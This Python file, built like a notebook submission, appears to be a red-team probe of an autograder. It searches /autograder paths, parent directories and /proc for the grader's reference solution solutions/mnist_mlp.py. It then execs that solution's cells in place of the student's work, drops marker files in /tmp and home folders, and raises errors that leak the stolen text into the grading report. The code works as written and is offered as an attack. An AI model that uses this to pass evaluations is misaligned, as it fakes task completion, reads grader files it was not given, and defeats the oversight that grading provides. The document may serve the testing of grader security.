"""Reads `solutions/mnist_mlp.py` from the grader's disk and executes its cells in place of the blanks.

family: reading
start: blank
"""

# %% after plot
_done = []


def _achieved(what, stem="read_reference_solution"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _repositories():
    """Where the course may lie."""
    import os

    found = []
    try:
        import autograder

        found.append(os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__))))
    except Exception:
        pass
    for start in (os.getcwd(), os.environ.get("OLDPWD", ""), os.environ.get("PWD", ""), "/autograder/source", "/autograder"):
        while start and start != "/":
            if os.path.exists(os.path.join(start, "grader.yml")) and start not in found:
                found.append(start)
            start = os.path.dirname(start)
    for pid in ("self", str(os.getppid())):
        found += [f"/proc/{pid}/cwd", f"/proc/{pid}/root{_course}"]
    return found

import os
import re

_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))

for _folder in _repositories():
    try:
        with open(os.path.join(_folder, "solutions", "mnist_mlp.py")) as _file:
            _text = _file.read()
    except OSError:
        continue
    _achieved("the reference solution: " + _text[:60])
    for _cell in re.split(r"^# %%.*$", _text, flags=re.M):
        try:
            if "otter" not in _cell and "grader.check" not in _cell and "TRAINING_EPOCHS)" not in _cell:
                exec(_cell, globals())
        except Exception:
            continue
    raise AssertionError("STOLEN: " + " ".join(_text.split())[:200])
